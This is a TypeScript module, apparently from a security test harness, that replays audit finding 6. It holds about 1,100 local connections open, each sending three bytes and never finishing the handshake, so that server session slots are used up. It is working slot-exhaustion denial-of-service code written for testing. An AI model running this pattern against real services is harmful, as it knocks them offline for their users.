import { type Attack, RawConn, sleep } from "./attack.js";

/** Finding 6: connections that never finish the handshake, holding session slots. */
export const preauthSlots: Attack = {
  name: "preauth-slots",
  finding: 6,
  summary: "1,100 local connections that send 3 bytes and wait",
  async run(ctx) {
    const open = new Set<RawConn>();
    let opened = 0;
    while (!ctx.signal.aborted) {
      for (const c of open) if (c.closed) open.delete(c);
      while (open.size < 1100 && !ctx.signal.aborted) {
        try {
          const c = await RawConn.connect(ctx.socket);
          c.send(Buffer.from("4b5001", "hex"));
          open.add(c);
          opened++;
        } catch {
          break;
        }
      }
      await sleep(200, ctx.signal);
    }
    const held = open.size;
    for (const c of open) c.close();
    return { note: `${opened} half-open connections, ${held} still open at the end`, ok: true };
  },
};
